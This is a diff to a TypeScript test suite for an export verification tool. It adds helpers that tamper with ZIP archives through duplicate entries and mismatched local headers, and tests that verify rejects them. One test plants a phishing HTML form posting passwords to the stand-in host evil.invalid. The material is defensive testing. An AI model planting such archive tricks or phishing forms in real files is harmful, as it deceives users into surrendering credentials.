@@ -1,6 +1,8 @@
 import fs from "node:fs";
 import path from "node:path";
-import { execFile } from "node:child_process";
+import { execFile, execFileSync } from "node:child_process";
+import { createHash } from "node:crypto";
+import zlib from "node:zlib";
 import { expect } from "chai";
 import { ExportRow } from "../../src/entities";
 import { purgeExpiredExports } from "../../src/export/purge";
@@ -18,6 +20,63 @@ function dsr(args: string[], env: Record<string, string>): Promise<{ code: numbe
       resolve({ code: error ? Number((error as { code?: number }).code ?? 1) : 0, stdout, stderr }),
     );
   });
+}
+
+/**
+ * A copy of ZIP `bytes` with one more stored entry `name` (written after the last one, listed last in
+ * the central directory), as someone who edits an archive would add it.
+ */
+function withEntry(bytes: Buffer, name: string, content: string): Buffer {
+  const eocd = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
+  const count = bytes.readUInt16LE(eocd + 10);
+  const cdSize = bytes.readUInt32LE(eocd + 12);
+  const cdOffset = bytes.readUInt32LE(eocd + 16);
+  const data = Buffer.from(content);
+  const crc = zlib.crc32(data);
+  const header = (signature: number, size: number, entryName: string) => {
+    const h = Buffer.alloc(size);
+    h.writeUInt32LE(signature, 0);
+    return { h, name: Buffer.from(entryName) };
+  };
+  const local = header(0x04034b50, 30, name);
+  local.h.writeUInt16LE(20, 4);
+  local.h.writeUInt32LE(crc, 14);
+  local.h.writeUInt32LE(data.length, 18);
+  local.h.writeUInt32LE(data.length, 22);
+  local.h.writeUInt16LE(local.name.length, 26);
+  const central = header(0x02014b50, 46, name);
+  central.h.writeUInt16LE(20, 4);
+  central.h.writeUInt16LE(20, 6);
+  central.h.writeUInt32LE(crc, 16);
+  central.h.writeUInt32LE(data.length, 20);
+  central.h.writeUInt32LE(data.length, 24);
+  central.h.writeUInt16LE(central.name.length, 28);
+  central.h.writeUInt32LE(cdOffset, 42);
+  const added = Buffer.concat([local.h, local.name, data]);
+  const end = Buffer.from(bytes.subarray(eocd, eocd + 22));
+  end.writeUInt16LE(count + 1, 8);
+  end.writeUInt16LE(count + 1, 10);
+  end.writeUInt32LE(cdSize + 46 + central.name.length, 12);
+  end.writeUInt32LE(cdOffset + added.length, 16);
+  return Buffer.concat([bytes.subarray(0, cdOffset), added, bytes.subarray(cdOffset, cdOffset + cdSize), central.h, central.name, end]);
+}
+
+/** A ZIP archive with no entries (its end of central directory record alone). */
+const EMPTY_ZIP = Buffer.from([0x50, 0x4b, 0x05, 0x06, ...new Array(18).fill(0)]);
+
+/** A copy of ZIP `bytes` whose entry `name` says `other` (of the same length) in its local header, the central directory unchanged. */
+function renamedLocally(bytes: Buffer, name: string, other: string): Buffer {
+  const copy = Buffer.from(bytes);
+  const eocd = copy.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
+  for (let at = copy.readUInt32LE(eocd + 16); copy.readUInt32LE(at) === 0x02014b50; ) {
+    const nameLength = copy.readUInt16LE(at + 28);
+    if (copy.toString("utf8", at + 46, at + 46 + nameLength) === name) {
+      copy.write(other, copy.readUInt32LE(at + 42) + 30, "utf8");
+      return copy;
+    }
+    at += 46 + nameLength + copy.readUInt16LE(at + 30) + copy.readUInt16LE(at + 32);
+  }
+  throw new Error(`no ${name} in the archive`);
 }
 
 describeEachDatabase("export commands and retention", (db) => {
@@ -49,6 +108,74 @@ describeEachDatabase("export commands and retention", (db) => {
     expect(saved.code, saved.stderr).to.equal(0);
     const plain = await dsr(["export", "verify", out], { DSR_DATA_DIR: tempDir() });
     expect(plain.code, plain.stderr).to.equal(0);
+  });
+
+  it("dsr export verify refuses an archive with an entry added under a name it lists, which unzip would open instead", async function () {
+    this.timeout(60_000);
+    const id = await completedRequest(t);
+    const got = await download((await exportLink(t, id)).url);
+    const bytes = fs.readFileSync(got.file!);
+    const phishing = '<!DOCTYPE html><form action="https://evil.invalid/">Enter your password to see your data</form>';
+    const cases = {
+      // A second index.html after the first: unzip, Python's zipfile and most archive tools show this one.
+      "second index.html": withEntry(bytes, "index.html", phishing),
+      // README.txt in the directory, index.html in its own header (the name a streaming reader extracts it under).
+      "a header naming another file": renamedLocally(bytes, "README.txt", "index.html"),
+    };
+    // What unzip opens as index.html is the added one.
+    const first = path.join(tempDir(), "added.zip");
+    fs.writeFileSync(first, cases["second index.html"]);
+    const unzipped = tempDir();
+    execFileSync("unzip", ["-o", "-q", first, "-d", unzipped]);
+    expect(fs.readFileSync(path.join(unzipped, "index.html"), "utf8")).to.equal(phishing);
+    for (const [label, archive] of Object.entries(cases)) {
+      const file = path.join(tempDir(), "edited.zip");
+      fs.writeFileSync(file, archive);
+      const result = await dsr(["export", "verify", file], { DSR_DATA_DIR: tempDir() });
+      expect(result.code, `${label}: ${result.stdout}`).to.equal(1);
+      expect(result.stdout, label).to.match(/^problem: .*(index\.html|README\.txt)/m);
+      expect(result.stdout, label).not.to.match(/^ok:/m);
+    }
+  });
+
+  it("dsr export verify and decrypt answer a file they cannot read, or an archive whose manifest is not one, in words and with their exit code", async () => {
+    const dir = tempDir();
+    const missing = path.join(dir, "missing.zip");
+    for (const args of [["verify", missing], ["verify", dir], ["decrypt", missing, "--out", path.join(dir, "out.zip")]]) {
+      const result = await dsr(["export", ...args], { DSR_DATA_DIR: tempDir() });
+      expect(result.code, result.stderr).to.equal(2);
+      expect(result.stderr).to.match(/^dsr: cannot read .* \((ENOENT|EISDIR)\): name an export file/);
+    }
+    for (const manifest of ["null", "{}", "{not json", '{"request":{},"files":[null],"categories":[]}']) {
+      const file = path.join(dir, "odd.zip");
+      fs.writeFileSync(file, withEntry(withEntry(EMPTY_ZIP, "manifest.json", manifest), "index.html", "<p>hi</p>"));
+      const result = await dsr(["export", "verify", file], { DSR_DATA_DIR: tempDir() });
+      expect(result.code, `${manifest}: ${result.stderr}`).to.equal(1);
+      expect(result.stdout, manifest).to.equal("problem: manifest.json is not a manifest of this format (a JSON object with files and categories)\n");
+      expect(result.stderr, manifest).to.equal("");
+    }
+  });
+
+  it("dsr export verify --portability counts a CSV's records against the manifest, as it does a JSON file's", async function () {
+    this.timeout(60_000);
+    const id = await completedRequest(t);
+    const got = await download((await exportLink(t, id)).url);
+    // Unpacked, one ticket's row dropped from data/support.csv, the manifest's size and sha256 made to match, packed again.
+    const dir = tempDir();
+    execFileSync("unzip", ["-q", got.file!, "-d", dir]);
+    const csvFile = path.join(dir, "data", "support.csv");
+    const rows = fs.readFileSync(csvFile, "utf8").split(/\n(?=ticketing,)/);
+    fs.writeFileSync(csvFile, rows.slice(0, -1).join("\n") + "\n");
+    const manifest = JSON.parse(fs.readFileSync(path.join(dir, "manifest.json"), "utf8")) as { files: Array<{ path: string; bytes: number; sha256: string; records: number }> };
+    const entry = manifest.files.find((f) => f.path === "data/support.csv")!;
+    const bytes = fs.readFileSync(csvFile);
+    Object.assign(entry, { bytes: bytes.length, sha256: createHash("sha256").update(bytes).digest("hex") });
+    fs.writeFileSync(path.join(dir, "manifest.json"), JSON.stringify(manifest));
+    const edited = path.join(tempDir(), "edited.zip");
+    execFileSync("zip", ["-q", "-X", "-D", "-r", edited, "."], { cwd: dir });
+    const result = await dsr(["export", "verify", edited, "--portability"], { DSR_DATA_DIR: tempDir() });
+    expect(result.code, result.stdout).to.equal(1);
+    expect(result.stdout).to.equal(`problem: data/support.csv: holds ${entry.records - 1} records, the manifest says ${entry.records}\n`);
   });
 
   it("dsr export decrypt writes the ZIP only when the file authenticates", async function () {
